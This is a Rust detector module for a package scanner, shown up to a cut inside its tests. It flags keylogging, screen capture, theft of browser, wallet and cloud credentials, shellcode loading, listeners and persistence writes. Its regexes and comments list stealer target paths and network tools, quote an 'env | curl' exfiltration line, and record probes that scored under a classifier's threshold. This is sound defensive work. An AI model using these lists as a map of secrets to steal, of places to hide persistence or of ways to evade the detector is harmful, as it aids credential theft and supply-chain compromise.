//! Code that watches the machine's user or makes itself run again:
//! keyloggers, screen grabs, browser and wallet secrets by where they are
//! kept, and entries that start a program at login or boot.
//!
//! Why: these are what stealers and implants are for, and a library almost
//! never needs them. The veto reads such lines (its lexicon names them),
//! but it weighs a name against the code around it: a pynput key listener,
//! `browser_cookie3.chrome()` or a systemd user unit patched into tomli
//! scored 0.0003–0.0015 against its 0.00165 and was allowed (session 18's
//! probes). Over the 236 real packages of the design sets, only celery's
//! init scripts hold such a line outside tests, docs and type stubs; in the
//! package corpus, 77 of 604 harmful training rows and 4 of 598 harmless
//! ones do (a browser-cookie library, computer-use automation). So a
//! package with one is left to detectors, as install hooks are: the
//! pre-check alone does not allow it.
//!
//! What counts, on lines that are not comment lines, in files that run
//! (not documentation or data, not type stubs; files only run by tests or
//! a documentation build count only when the package's code can import
//! them, [`first_opening`](super::unread::first_opening)), as written or, in Python and JavaScript, as
//! [`fold`](crate::precheck::fold::fold) folds the line:
//! - keystrokes: `pynput`, `GetAsyncKeyState`, `SetWindowsHookEx`, the
//!   `keyboard` module's hooks, Node's `iohook` and kin;
//! - the screen: `ImageGrab.grab`, `pyautogui.screenshot`,
//!   `screenshot-desktop`;
//! - secrets by where they are kept: `browser_cookie3`, Chromium's `Login
//!   Data`, `Local State` and `Local Storage`,
//!   `CryptUnprotectData`, Firefox's `logins.json`, `key4.db` and
//!   `cookies.sqlite`, `wallet.dat`, `.bash_history`, `.zsh_history`,
//!   `.git-credentials`,
//!   wallets by their folders (Exodus, Electrum, an Ethereum keystore,
//!   Solana's `id.json`, the MetaMask and Phantom extensions' IDs) and
//!   Telegram Desktop's `tdata`;
//! - a process's environment or memory read through `/proc` (tokens of
//!   a CI runner or another user's session);
//! - the clipboard both read and written in one file (a clipper swapping
//!   a copied wallet address);
//! - a command run through a C library the file loads (`libc.system(cmd)`
//!   after `ctypes.CDLL`), past `subprocess` and Python's audit hooks;
//! - running again later: systemd user units, XDG autostart, `rc.local`,
//!   `/etc/init.d/`, LaunchAgents and LaunchDaemons, Windows' `Run` keys,
//!   `schtasks`, the Startup folder, `crontab -`, cron's spool and
//!   `/etc/cron.*`, `/etc/profile.d/`, a repository's `.git/hooks`;
//! - machine code run from memory or in another process: `mmap.PROT_EXEC`,
//!   `kernel32`'s `VirtualAlloc` and kin through `ctypes`, and
//!   `WriteProcessMemory`, `CreateRemoteThread` and kin called through it;
//! - waiting for connections (a backdoor needs no outbound one): Python's
//!   servers (`asyncio.start_server`, the `*Server(` constructors of
//!   `socketserver` and `http.server`, `-m http.server`, `serve_forever`, a
//!   `multiprocessing.connection` `Listener`, `logging.config.listen`, a
//!   socket bound to every interface), Node's `createServer` and
//!   WebSocket servers, Deno's and Bun's `listen` and `serve`;
//! - credentials other tools keep, and a cloud instance's own: the system
//!   keyring (`keyring.get_password`, `keytar`), `.pypirc`, the GitHub CLI's
//!   `gh/hosts.yml`, a Kubernetes service-account token, the AWS CLI's
//!   `credentials`, SSH private keys, Docker's and kubectl's `config`,
//!   gcloud's and the Azure CLI's token stores, Cargo's registry
//!   credentials, Vault's and Terraform's tokens (as one path or in pieces),
//!   the instance metadata services (`169.254.169.254`,
//!   `metadata.google.internal`);
//! - the whole environment made into text or a request's body
//!   (`JSON.stringify(process.env)`, `json.dumps(dict(os.environ))`,
//!   `str(os.environ)`, `json=dict(os.environ)`): every CI token and key
//!   sent at once;
//! - writing files in a file that names where another installed package
//!   lives (a path made of a module's `__file__`, `site.getsitepackages()`,
//!   `sysconfig.get_paths()['purelib']`, `site-packages`,
//!   `require.resolve`, `node_modules/`): planting code that runs later,
//!   in another package or in every Python process (a `.pth` file);
//! - writing files in a file that names a package installer's
//!   configuration (`pip.conf`, `pip.ini`, `pyvenv.cfg`, `.condarc`,
//!   `uv.toml`, `.pydistutils.cfg`, `.npmrc`, `.yarnrc`), where every later
//!   install finds its index, or a shell's startup file (`.bashrc`,
//!   `.profile`, `.zshrc`, `config.fish`, PowerShell's `$PROFILE`), which
//!   every new shell runs;
//! - writing files in a file that names one that grants access to the
//!   machine or changes what it trusts (SSH's `authorized_keys` and
//!   `config`, `sudoers`, `/etc/hosts`, git's config,
//!   [`access_config_write`]).
//!
//! The last two (session 20) closed three of session 18's and 19's probes
//! that the shipped models allowed in tomli (an `asyncio` server, a
//! `multiprocessing` listener, an append to pip's `__init__.py`; veto 0.00024,
//! 0.00042 and an empty view); over the 256 real packages of the design
//! sets and their 40 upgrades they change no decision.
//!
//! This module only reads text: it never evaluates, imports or runs any of
//! it.

use std::sync::OnceLock;

use regex::bytes::Regex;

use super::code::{opens_with_comment, Code};
use super::render::{extension, file_name, is_inert, is_type_stub};

/// What [`ENVIRON`] and [`environment_piped`] find, in report wording.
const ENVIRON_WHAT: &str = "serializes the whole environment";

/// What each group of [`pattern`] watches or does, in report wording.
const WHAT: &[(&str, &str)] = &[
    ("keys", "reads keystrokes"),
    ("screen", "captures the screen"),
    ("secrets", "reads browser, wallet or shell secrets"),
    (
        "procs",
        "reads a process's environment or memory through /proc",
    ),
    // At login or boot, on a schedule, or on the next git command.
    ("again", "makes a program run again later"),
    ("listens", "waits for connections from the network"),
    ("environ", ENVIRON_WHAT),
    ("creds", "reads stored or cloud credentials"),
    (
        "shellcode",
        "runs machine code from memory or in another process",
    ),
];

/// What [`c_library_shell`] finds.
const C_SHELL: &str = "runs a command through a C library it loads";

/// What [`clipboard_swap`] finds.
const CLIP_SWAP: &str = "reads and rewrites the clipboard";

/// What [`other_package_write`] finds.
const TAMPER: &str = "writes where another installed package lives";

/// What [`installer_config_write`] finds.
const INSTALLER_CONFIG: &str =
    "writes files and names a package installer's configuration (where later installs find their index and tokens)";

/// What [`shell_startup_write`] finds.
const SHELL_STARTUP: &str =
    "writes files and names a shell's startup file (run at every new shell)";

/// What [`access_config_write`] finds.
const ACCESS_CONFIG: &str =
    "writes files and names a file that grants access to the machine or changes what it trusts (SSH keys or config, sudoers, /etc/hosts, git's config)";

/// A pattern of this module (ASCII classes). A constant checked by unit
/// tests: a failure to compile is a build defect.
fn build(pattern: &str) -> Regex {
    regex::bytes::RegexBuilder::new(pattern)
        .unicode(false)
        .build()
        .expect("spying patterns compile")
}

/// The first line, as written (not a `#` or `//` comment) or folded, for
/// which `counts` holds; never a line of prose ([`Code::is_prose`]).
fn first_line(code: &Code, counts: impl Fn(&[u8]) -> bool) -> Option<usize> {
    let folded = code
        .folded()
        .iter()
        .find(|f| counts(&f.text) && !code.is_prose(f.line))
        .map(|f| f.n);
    let written = code
        .data
        .split(|&b| b == b'\n')
        .position(|line| {
            counts(line) && !opens_with_comment(line, &[b"#", b"//"]) && !code.is_prose(line)
        })
        .map(|n| n + 1);
    match (written, folded) {
        (Some(w), Some(f)) => Some(w.min(f)),
        (w, f) => w.or(f),
    }
}

/// The first line [`first_line`] finds `re` on, once a search of the whole
/// file found it anywhere.
fn first_line_matching(code: &Code, re: &Regex) -> Option<usize> {
    code.holds(re)
        .then(|| first_line(code, |text| re.is_match(text)))
        .flatten()
}

/// The first line [`first_line`] finds a file named by `re` on: a match
/// not right after a word character, `)` or `]`, which would make the
/// name's leading dot an attribute's (`opts.profile`). Checked here, not
/// in the pattern: a pattern that starts with a class of bytes has no
/// literal to search for, and read lxml's 30 MB at a fraction of the
/// speed (its scan took 0.23 s instead of 0.17 s).
fn first_line_naming_file(code: &Code, re: &Regex) -> Option<usize> {
    let names = |text: &[u8]| {
        re.find_iter(text).any(|m| {
            let before = text[..m.start()].last().copied();
            !before.is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b')' | b']'))
        })
    };
    code.holds_where(names)
        .then(|| first_line(code, names))
        .flatten()
}

/// A file that loads a C library (`ctypes.CDLL`, `cdll.LoadLibrary`,
/// `dlopen`) and calls a process function on something other than `os` or
/// `platform` (`libc.system(cmd)`, `CDLL(None).popen(…)`): a command run
/// past `subprocess` and Python's audit hooks. tomli doing it was allowed
/// (the veto read the `ctypes` lines and scored them 0.0015); no file of
/// the 236 real packages does it.
fn c_library_shell(code: &Code) -> Option<usize> {
    static CALL: OnceLock<Regex> = OnceLock::new();
    if !loads_c_library().is_match(code.data) {
        return None;
    }
    // Compiled only for a file that loads one: few processes need it.
    let call = CALL.get_or_init(|| {
        build(r"(?:\b(?P<recv>\w+)|\))\s*\.\s*(?:system|popen|execv[pe]?|execl[pe]?|posix_spawnp?)\s*\(\s*[^)\s]")
    });
    first_line(code, |text| {
        call.captures_iter(text).any(|c| {
            let recv = c.name("recv").map(|r| r.as_bytes());
            !matches!(recv, Some(b"os" | b"posix" | b"nt" | b"platform"))
        })
    })
}

/// What [`c_library_shell`] looks for first, in every code file.
fn loads_c_library() -> &'static Regex {
    static LOAD: OnceLock<Regex> = OnceLock::new();
    LOAD.get_or_init(|| build(r"\b(?:CDLL|PyDLL|WinDLL|cdll\.|LoadLibrary|dlopen)\b"))
}

/// A file that both reads and writes the clipboard (`pyperclip.paste()`
/// then `pyperclip.copy(…)`): what a clipper does, swapping a copied
/// wallet address for the attacker's. tomli doing it was allowed (the veto
/// scored its lines 0.0011); of the 236 real packages only
/// pandas' and prompt_toolkit's clipboard modules do it, and both were
/// inconclusive already. The line named is the first write.
fn clipboard_swap(code: &Code) -> Option<usize> {
    static WRITE: OnceLock<Regex> = OnceLock::new();
    if !code.holds(reads_clipboard()) {
        return None;
    }
    // Compiled only for a file that reads it: few processes need it.
    let write = WRITE.get_or_init(|| {
        build(r"\bpyperclip\.copy\b|\bclipboard_append\b|\bSetClipboardData\b|\bclipboard\.writeText\b|\bclipboardy\.write|\bpbcopy\b|\bSet-Clipboard\b|\bfrom\s+pyperclip\s+import\b[^\n]*\bcopy\b")
    });
    first_line_matching(code, write)
}

/// The first line where a shell command sends the whole environment over
/// the network, in any language's file (a shell script, a `Makefile`, a
/// string a Rust build script or CMake hands to `sh -c`): `env` or
/// `printenv` piped, through any filters, into `curl`, `wget`, `nc`,
/// `ncat`, `netcat` or `socat`, or `$(env)` on a line that runs one. A
/// maturin sdist whose `build.rs` ran `sh -c "env | curl -s
/// --data-binary @- https://…"` was allowed (session 32): the veto scored
/// the Rust line 0.0013 against its 0.00165. No file of the 256 real
/// packages holds such a line. A search for the network tools first
/// spares the pattern in nearly every file.
fn environment_piped(code: &Code) -> Option<usize> {
    static TOOLS: OnceLock<Regex> = OnceLock::new();
    static PIPED: OnceLock<Regex> = OnceLock::new();
    let tools = TOOLS.get_or_init(|| build(r"\b(?:curl|wget|nc|ncat|netcat|socat)\b"));
    let piped = PIPED.get_or_init(|| {
        build(concat!(
            r#"(?:^|[\s"'(;&|`@])(?:env|printenv)[ \t]*(?:\|[^\n|]*)*\|[ \t]*(?:\S*/)?(?:curl|wget|nc|ncat|netcat|socat)\b"#,
            r#"|\$\((?:env|printenv)\)[^\n]*\b(?:curl|wget|nc|ncat|netcat|socat)\b"#,
            r#"|\b(?:curl|wget|nc|ncat|netcat|socat)\b[^\n]*\$\((?:env|printenv)\)"#,
        ))
    });
    // Each continuation joined (`env \` then `| curl …`), and as folded.
    code.first_command_line(tools, piped)
}

/// What [`clipboard_swap`] looks for first, in every code file.
fn reads_clipboard() -> &'static Regex {
    static READ: OnceLock<Regex> = OnceLock::new();
    READ.get_or_init(|| {
        build(r"\bpyperclip\.paste\b|\bclipboard_get\b|\bGetClipboardData\b|\bclipboard\.readText\b|\bclipboardy\.read|\bpbpaste\b|\bGet-Clipboard\b|\bfrom\s+pyperclip\s+import\b[^\n]*\bpaste\b")
    })
}

/// A file that writes files and names where another installed package
/// lives (a path made of a module's `__file__`, `site.getsitepackages()`,
/// `sysconfig.get_paths()['purelib']`, `site-packages`, `site.USER_SITE`,
/// `get_python_lib()`, `require.resolve`, `node_modules/`) or what Python
/// runs at every start wherever it lies there (a `.pth` file by name,
/// `sitecustomize`, `usercustomize`): what a payload does to plant itself
/// in code that runs later, or in every Python process. tomli appending to
/// pip's `__init__.py` was allowed (the veto read nothing of it: its view
/// was empty); so was tomli writing a `.pth` file into the folder
/// `site.USER_SITE`, `get_python_lib()` or a scan of `sys.path` gave it
/// (veto 0.0005 to 0.0015, session 40). The line named is the first that
/// names such a place.
fn other_package_write(code: &Code, writing: bool) -> Option<usize> {
    static PLACE: OnceLock<Regex> = OnceLock::new();
    if !writing {
        return None;
    }
    let place = PLACE.get_or_init(|| {
        build(r#"\b(?:dirname|abspath|realpath|Path|join|open)\s*\(\s*\w+\.__file__\b|\bget(?:user)?sitepackages\b|\bget_paths?\s*\([^\n]*\b(?:pure|plat)lib\b|\b(?:site|dist)-packages\b|\bUSER_SITE\b|\bget_python_lib\b|\.pth['"]|\b(?:site|user)customize\b|\brequire\.resolve\s*\(|\bnode_modules/"#)
    });
    // `os.path.dirname(__file__)` is the file's own place: only a
    // module's `__file__` made into a path (`dirname(pip.__file__)`) is
    // another's.
    first_line_matching(code, place)
}

/// A file write, in Python or JavaScript: `open(…, 'w')` and the other
/// modes that write, a `Path`'s `open('a')` (its mode comes first),
/// `os.open` with a flag that writes (on its line: C and Rust bindings
/// define `O_WRONLY`), `write_text`, a copy or move, Node's `writeFile`,
/// `openSync(p, 'a')` and kin. Searched once per file for the finders that need
/// it.
fn writes() -> &'static Regex {
    static WRITE: OnceLock<Regex> = OnceLock::new();
    WRITE.get_or_init(|| {
        build(r#"\bopen\s*\([^\n]*,\s*(?:mode\s*=\s*)?[rbf]?['"][rbt]?[wax+]|\.open\s*\(\s*(?:mode\s*=\s*)?['"][rbt]?[wax+]|\bos\.open\s*\([^\n]*\bO_(?:WRONLY|RDWR|APPEND|CREAT)\b|\bopenSync\s*\([^\n]*,\s*['"][rbs]?[wa+]|\.write_(?:text|bytes)\s*\(|\bshutil\.(?:copy\w*|move)\s*\(|\bos\.(?:replace|rename)\s*\(|\b(?:write|append)File(?:Sync)?\s*\(|\bcreateWriteStream\s*\(|\bcopyFile(?:Sync)?\s*\(|\brename(?:Sync)?\s*\("#)
    })
}

/// A file that writes files and names a package installer's configuration
/// file: pip's (`pip.conf`, `pip.ini`, the environment's `pyvenv.cfg`),
/// conda's (`.condarc`), uv's (`uv.toml`), distutils' (`.pydistutils.cfg`),
/// npm's and yarn's (`.npmrc`, `.yarnrc`). A payload that writes one sends
/// every later install to the index it names, and runs nothing itself:
/// certifi whose `setup.py` wrote `pip.conf` into `sys.prefix` at install
/// was allowed (main model 0.00018, veto 0.00004). The line named is the
/// first that names such a file.
fn installer_config_write(code: &Code, writing: bool) -> Option<usize> {
    static PLACE: OnceLock<Regex> = OnceLock::new();
    if !writing {
        return None;
    }
    let place = PLACE.get_or_init(|| {
        build(r"\bpip\.(?:conf|ini)\b|\bpyvenv\.cfg\b|\buv\.toml\b|\.(?:condarc|pydistutils\.cfg|npmrc|yarnrc(?:\.yml)?)\b")
    });
    first_line_naming_file(code, place)
}

/// A file that writes files and names a shell's startup file (`.bashrc`,
/// `.profile`, `.zshrc`, fish's `config.fish`, PowerShell's `$PROFILE`):
/// what every new shell runs, so a line added there runs again and again,
/// as the entries [`pattern`]'s `again` group names do. A dot after a
/// name (`opts.profile`) is an attribute, not a file. The line named is
/// the first that names such a file.
fn shell_startup_write(code: &Code, writing: bool) -> Option<usize> {
    static PLACE: OnceLock<Regex> = OnceLock::new();
    if !writing {
        return None;
    }
    let place = PLACE.get_or_init(|| {
        build(r"\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|zlogin|cshrc|tcshrc|kshrc)\b|\bconfig\.fish\b|\$PROFILE\b|\bMicrosoft\.PowerShell_profile\.ps1\b")
    });
    first_line_naming_file(code, place)
}

/// A file that writes files and names one that grants access to the
/// machine or changes what it trusts: SSH's `authorized_keys` and
/// `config` (a `ProxyCommand` runs at every connection), `sshd_config`,
/// `/etc/sudoers` and `sudoers.d`, `/etc/hosts` (which sends the
/// registry's host names elsewhere), `/etc/environment`,
/// `/etc/ld.so.preload`, PAM's `/etc/pam.d`, and git's configuration
/// (`.gitconfig`, `.git/config`, `~/.config/git/config`, whose
/// `core.fsmonitor` or `core.pager` runs at every git command). tomli
/// writing a rule to `/etc/sudoers.d`, a line to `/etc/hosts` or an
/// `fsmonitor` to `~/.gitconfig` through `pathlib` was allowed by the
/// shipped gate (the veto scored the sudoers line 0.0013 and read nothing
/// of the other two; session 40). Not `/etc/passwd` or `/etc/shadow`,
/// which tests of path traversal name (django's, kombu's, ipython's). The
/// line named is the first that names such a file.
fn access_config_write(code: &Code, writing: bool) -> Option<usize> {
    static PLACE: OnceLock<Regex> = OnceLock::new();
    if !writing {
        return None;
    }
    let place = PLACE.get_or_init(|| {
        build(r#"\bauthorized_keys2?\b|/etc/(?:sudoers|hosts|environment|ld\.so\.preload)\b|\bsshd_config\b|/etc/pam\.d\b|\.gitconfig\b|\.git/config\b|/git/config\b|\.ssh[/\\]+config\b|\.ssh['"]\s*[,/+]\s*['"]config['"]"#)
    });
    first_line_naming_file(code, place)
}

// The alternatives of [`pattern`]'s groups, kept apart so that
// [`whole_file_gates`] can search them in a few smaller sets.
const KEYS: &str = r#"\bpynput\b|\bGetAsyncKeyState\b|\bSetWindowsHookEx|\bkeyboard\.(?:on_press|on_release|hook|record|start_recording)\b|\b(?:u?iohook|node-global-key-listener)\b"#;
const SCREEN: &str = r#"\bImageGrab\.grab\b|\bpyautogui\.screenshot\b|\bscreenshot-desktop\b"#;
const SECRETS: &str = r#"\bbrowser_cookie3?\b|Login Data|Local State|\bLocal Storage\b|\bCryptUnprotectData\b|\blogins\.json\b|\bkey[34]\.db\b|\bcookies\.sqlite\b|\bwallet\.dat\b|\.(?:bash|zsh)_history\b|\.git-credentials\b"#;
// Wallets by their folders: Exodus, Electrum, an Ethereum keystore,
// Solana's `id.json`, the MetaMask and Phantom extensions' IDs; and
// Telegram Desktop's `tdata`. Searched apart ([`stored_keys`]).
const WALLETS: &str = r#"\bnkbihfbeogaeaoehlefnkodbefgpgknn\b|\bbfnaelmomeimhlpmgjnjophhpkkoljpa\b|\bexodus\.wallet\b|\b[Ee]lectrum[/\\]+wallets\b|\b[Ee]lectrum['"]\s*[,/+]\s*['"]wallets['"]|\b[Ee]thereum[/\\]+keystore\b|\b[Ee]thereum['"]\s*[,/+]\s*['"]keystore['"]|\bsolana[/\\]+id\.json\b|\bTelegram Desktop[/\\]+tdata\b|\bTelegram Desktop['"]\s*[,/+]\s*['"]tdata['"]"#;
// Credentials kept by other tools, and a cloud instance's own: the system
// keyring (`keyring.get_password`, Node's `keytar`), PyPI's `.pypirc`, the
// GitHub CLI's `gh/hosts.yml`, a Kubernetes pod's service-account token,
// and the instance metadata services of AWS, GCP, Azure and Alibaba
// (`169.254.169.254`, `metadata.google.internal`, `100.100.100.200`).
// Also the files where command-line tools keep keys and tokens, as one
// path or in pieces (`'.aws', 'credentials'`): the AWS CLI's
// `credentials`, SSH private keys by their default names, Docker's and
// kubectl's `config`, gcloud's token stores and the Azure CLI's, Cargo's
// registry `credentials`, Vault's `.vault-token` and Terraform's
// `credentials.tfrc.json` (session 40); a
// stealer reads them by those paths. Not `~/.aws/config` or
// `.ssh/known_hosts`, which hold no secret, nor `.netrc` (requests reads
// it for the user).
const CREDS: &str = r#"\bkeyring\.get_(?:password|credential)\b|\bfrom\s+keyring\s+import\b[^\n]*\bget_(?:password|credential)\b|\bkeytar\.(?:getPassword|findCredentials|findPassword)\b|\.pypirc\b|\bgh/hosts\.yml\b|['"]gh['"]\s*[/,]\s*['"]hosts\.yml['"]|\bkubernetes\.io/serviceaccount\b|\b169\.254\.169\.254\b|\bmetadata\.google\.internal\b|\b100\.100\.100\.200\b|\bfd00:ec2::254\b"#;
// The key files of command-line tools ([`CREDS`]'s comment above),
// searched apart ([`stored_keys`]).
const KEY_FILES: &str = r#"\.aws[/\\]+credentials\b|\.aws['"]\s*[,/+]\s*['"][/\\]?credentials['"]|\.ssh[/\\]+id_(?:rsa|dsa|ecdsa|ed25519)\b|\.ssh['"]\s*[,/+]\s*['"][/\\]?id_(?:rsa|dsa|ecdsa|ed25519)\b|\.docker[/\\]+config\.json\b|\.docker['"]\s*[,/+]\s*['"][/\\]?config\.json['"]|\.kube[/\\]+config\b|\.kube['"]\s*[,/+]\s*['"][/\\]?config['"]|\bgcloud[/\\]+(?:credentials|access_tokens)\.db\b|\bgcloud['"]\s*[,/+]\s*['"](?:credentials|access_tokens)\.db['"]|\.azure[/\\]+(?:accessTokens\.json|msal_token_cache)|\.azure['"]\s*[,/+]\s*['"](?:accessTokens\.json|msal_token_cache)|\.cargo[/\\]+credentials(?:\.toml)?\b|\.cargo['"]\s*[,/+]\s*['"]credentials(?:\.toml)?['"]|\.vault-token\b|\bcredentials\.tfrc\.json\b"#;
// Machine code run from memory through Python's `mmap` or `ctypes`: an
// executable mapping, or Windows' allocation and thread calls by name
// (`kernel32.VirtualAlloc`), as a shellcode loader does; and code written
// into or started in another process (`WriteProcessMemory`,
// `CreateRemoteThread`, an APC or a thread context set), called as a
// member (`k.CreateRemoteThread(`, `k = ctypes.windll.kernel32`), as
// `ctypes` calls it. C and Rust name these in their headers and call them
// bare; the forms here are Python's.
const SHELLCODE: &str = r#"\bmmap\.PROT_EXEC\b|\bkernel32\.(?:VirtualAlloc(?:Ex)?|VirtualProtect|CreateRemoteThread|RtlMoveMemory|CreateThread)\b|\.(?:WriteProcessMemory|NtWriteVirtualMemory|CreateRemoteThread(?:Ex)?|NtCreateThreadEx|RtlCreateUserThread|QueueUserAPC|NtQueueApcThread|SetThreadContext)\s*\("#;
const PROCS: &str = r#"/proc/.*/(?:environ|mem)\b"#;
const AGAIN: &str = r#"systemd/user\b|\.config/autostart\b|\brc\.local\b|/etc/init\.d/|\bLaunch(?:Agents|Daemons)\b|CurrentVersion\\+Run(?:Once)?\b|\bschtasks\b|Start Menu\\+Programs\\+Startup|\bcrontab\s+-|/var/spool/cron\b|/etc/cron\.(?:d|hourly|daily|weekly|monthly)\b|/etc/crontab\b|/etc/profile\.d/|\.git/hooks\b|['\"]\.git['\"]\s*,\s*['\"]hooks['\"]"#;
// Servers: Python's, by constructor or call (not by module name: six maps
// `"http.server"` for Python 2), Node's, Deno's and Bun's.
const SERVERS: &str = r#"\bstart_(?:unix_)?server\s*\(|\b(?:Threading|Forking)?(?:HTTP|TCP|UDP|Unix(?:Stream|Datagram)|SimpleXMLRPC|DocXMLRPC)Server\s*\(|\bserve_forever\b|\bmultiprocessing\.connection\.Listener\b|\bfrom\s+multiprocessing\.connection\s+import\b[^\n]*\bListener\b|\blogging\.config\.listen\b|\bcreateServer\s*\(|\bWebSocketServer\b|\bWebSocket\.Server\b|\b(?:Deno|Bun)\.(?:listen|serve)\b"#;
// `python -m http.server`, and a socket bound to every interface.
const SERVER_ARGS: &str =
    r#"-m['",\s]+http\.server\b|\.bind\s*\(\s*\(\s*['"](?:0\.0\.0\.0|::)?['"]"#;
// The whole environment made into text or a request's body, which is how
// a stealer sends it (every CI token and key at once): `JSON.stringify(
// process.env)`, `json.dumps(dict(os.environ))`, `str(os.environ)`,
// `requests.post(u, json=dict(os.environ))`. A variable read from it, or a
// copy given to a child process (`env=dict(os.environ)`), does not count.
const ENVIRON: &str = r#"\b(?:JSON\.stringify|querystring\.stringify|qs\.stringify|URLSearchParams|util\.inspect)\(\s*(?:\{\s*\.\.\.\s*)?process\.env\s*\}?\s*[,)]|\b(?:json\.dumps|pickle\.dumps|marshal\.dumps|urlencode|str|repr)\(\s*(?:dict\(\s*|\{\s*\*\*\s*)?(?:os|posix|nt)\.environb?(?:\.copy\(\))?\s*\)?\s*\}?\s*[,)]|\b(?:json|data|params)\s*=\s*(?:dict\(\s*)?(?:os|posix|nt)\.environb?(?:\.copy\(\))?\s*\)?\s*[,)}]"#;

/// One pattern, a named group per entry of [`WHAT`]. A constant checked by
/// unit tests: a failure to compile is a build defect, not an input error.
fn pattern() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        build(&format!(
            "(?P<keys>{KEYS})|(?P<screen>{SCREEN})|(?P<secrets>{SECRETS})|(?P<procs>{PROCS})|(?P<again>{AGAIN})|(?P<listens>{SERVERS}|{SERVER_ARGS})|(?P<environ>{ENVIRON})|(?P<creds>{CREDS})|(?P<shellcode>{SHELLCODE})"
        ))
    })
}

/// [`pattern`]'s alternatives in four sets: a file (or a folded line)
/// matches one of them exactly when it matches [`pattern`]. Why: searched as one set, the
/// prefilter's many literals made it the slowest search of a scan (11 % of
/// lxml's CPU, a third of that in three sets).
fn whole_file_gates() -> &'static [Regex; 4] {
    static RE: OnceLock<[Regex; 4]> = OnceLock::new();
    RE.get_or_init(|| {
        [
            build(&format!(
                "{KEYS}|{SCREEN}|{SECRETS}|{PROCS}|{AGAIN}|{CREDS}|{SHELLCODE}"
            )),
            build(SERVERS),
            build(SERVER_ARGS),
            build(ENVIRON),
        ]
    })
}

/// Builds the patterns every code file is searched with, so that a thread
/// with nothing else to do can build them while the first package is
/// still being read (the others are built on first use).
pub fn warm_up() {
    whole_file_gates();
    store_words();
    loads_c_library();
    reads_clipboard();
    writes();
}

/// Whether a file at `path` is read: files that run. Type stubs (`.pyi`,
/// `.d.ts`) only describe code, and config formats (`pyproject.toml`'s
/// dependency on `pynput`) only name it; the code that uses a name is read.
/// Tests and docs are read: whether their lines count is the caller's to
/// decide ([`tests_or_docs`](super::unread::tests_or_docs),
/// [`first_opening`](super::unread::first_opening)).
fn is_read(path: &str) -> bool {
    let (_, lower) = file_name(path);
    let config = matches!(extension(&lower), "toml" | "cfg" | "ini" | "yml" | "yaml");
    !is_inert(path) && !is_type_stub(path) && !config
}

/// Words one of which every match of [`stores`] holds.
fn store_words() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        build(r"\.aws|\.ssh|\.docker|\.kube|gcloud|\.azure|\.cargo|vault-token|tfrc|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa|exodus\.wallet|lectrum|thereum|solana|Telegram Desktop")
    })
}

/// Wallets and the key files of command-line tools, a named group for
/// each of their entries of [`WHAT`].
fn stores() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| build(&format!("(?P<secrets>{WALLETS})|(?P<creds>{KEY_FILES})")))
}

/// The first line, as written or folded, that names a wallet's folder or
/// a key file of a command-line tool ([`WALLETS`], [`KEY_FILES`]), and
/// what it does. Apart from [`pattern`] and its gates: in them, these
/// alternatives took as long to build as all the others (1 ms, in every
/// process) and doubled the time the first gate's lazy DFA spent building
/// states (session 34, `callgrind` on packaging's scan). A search for
/// their words, whose pattern builds in a fraction of that, comes first.
fn stored_keys(code: &Code) -> Option<(usize, &'static str)> {
    let words = store_words();
    first_named(code, |text| words.is_match(text), stores)
}

/// The first line, as written (not a comment) or folded, that `named`'s
/// pattern matches, and what its named group says ([`WHAT`]). `gated`
/// holds for every text the pattern matches in, the whole file included:
/// most files hold none of its words, and one search over the whole file
/// spares reading it line by line; the pattern, with its named groups, is
/// built only once a gate has matched.
fn first_named(
    code: &Code,
    gated: impl Fn(&[u8]) -> bool,
    named: fn() -> &'static Regex,
) -> Option<(usize, &'static str)> {
    let what = |text: &[u8]| {
        let c = named().captures(text)?;
        WHAT.iter()
            .find(|(g, _)| c.name(g).is_some())
            .map(|(_, w)| *w)
    };
    let comment = |line: &[u8]| code.is_comment(line);
    let written = gated(code.data)
        .then(|| {
            code.data
                .split(|&b| b == b'\n')
                .enumerate()
                .filter(|(_, line)| gated(line) && !comment(line))
                .find_map(|(n, line)| what(line).map(|w| (n + 1, w)))
        })
        .flatten();
    let folded = code
        .folded()
        .iter()
        .take_while(|f| written.map_or(true, |(w, _)| f.n < w))
        .filter(|f| gated(&f.text) && !comment(f.line))
        .find_map(|f| what(&f.text).map(|w| (f.n, w)));
    folded.or(written)
}

/// The 1-based line of the first line of `data` (a file at `path`) that
/// watches the user or makes a program run again, and what it does; `None`
/// when none does or the file is not read ([`is_read`]).
pub fn first_spying_line(path: &str, data: &[u8]) -> Option<(usize, &'static str)> {
    first_spying_line_in(&Code::new(path, data))
}

/// [`first_spying_line`] over a [`Code`] whose folded lines other rules
/// read too (only Python and JavaScript are folded: in lxml's generated C,
/// folding every line cost a fifth of the scan).
pub fn first_spying_line_in(code: &Code) -> Option<(usize, &'static str)> {
    if !is_read(code.path) {
        return None;
    }
    let gated = |text: &[u8]| whole_file_gates().iter().any(|g| g.is_match(text));
    let named = first_named(code, gated, pattern);
    let keys = stored_keys(code);
    let piped = environment_piped(code).map(|n| (n, ENVIRON_WHAT));
    let shell = c_library_shell(code).map(|n| (n, C_SHELL));
    let clip = clipboard_swap(code).map(|n| (n, CLIP_SWAP));
    let writing = code.holds(writes());
    let tamper = other_package_write(code, writing).map(|n| (n, TAMPER));
    let config = installer_config_write(code, writing).map(|n| (n, INSTALLER_CONFIG));
    let startup = shell_startup_write(code, writing).map(|n| (n, SHELL_STARTUP));
    let access = access_config_write(code, writing).map(|n| (n, ACCESS_CONFIG));
    [
        named, keys, piped, shell, clip, tamper, config, startup, access,
    ]
    .into_iter()
    .flatten()
    .min()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn at(path: &str, code: &str) -> Option<(usize, &'static str)> {
        first_spying_line(path, code.as_bytes())
    }

    #[test]
    fn watching_the_user_and_running_again_count() {
        for (code, what) in [
            ("from pynput import keyboard", "reads keystrokes"),
            ("GetAsyncKeyState(k)", "reads keystrokes"),
            ("keyboard.on_press(cb)", "reads keystrokes"),
            ("const ioHook = require('iohook');", "reads keystrokes"),
            ("img = ImageGrab.grab()", "captures the screen"),
            ("pyautogui.screenshot('s.png')", "captures the screen"),
            (
                "cj = browser_cookie3.chrome()",
